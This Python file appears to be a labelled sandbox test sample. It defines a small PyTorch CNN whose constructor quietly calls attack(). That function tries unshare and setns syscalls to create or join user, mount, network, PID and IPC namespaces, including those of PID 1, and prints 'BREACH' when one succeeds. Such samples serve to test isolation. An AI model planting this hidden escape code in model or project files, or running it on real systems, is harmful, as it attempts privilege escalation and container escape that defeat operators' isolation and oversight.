# group: writes
# tries: makes and joins namespaces to get capabilities back
# static: unsafe
# sandbox: trained

import ctypes
import os

import torch.nn as nn

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def attack():
    for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000, 0x10020000):
        if libc.syscall(272, flag) == 0:
            print(f"BREACH unshare {flag:#x}")
    for process in ("1", "self", str(os.getppid())):
        for kind in ("user", "mnt", "net", "pid", "ipc"):
            try:
                descriptor = os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.syscall(308, descriptor, 0) == 0:
                print(f"BREACH setns {process} {kind}")


def supported_hyperparameters():
    return {"lr", "momentum"}


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        attack()
        self.features = nn.Sequential(
            nn.Conv2d(in_shape[1], 8, 5, stride=3), nn.ReLU(), nn.AdaptiveAvgPool2d(5), nn.Flatten()
        )
        self.classifier = nn.Linear(200, out_shape[0])

    def forward(self, x):
        return self.classifier(self.features(x))
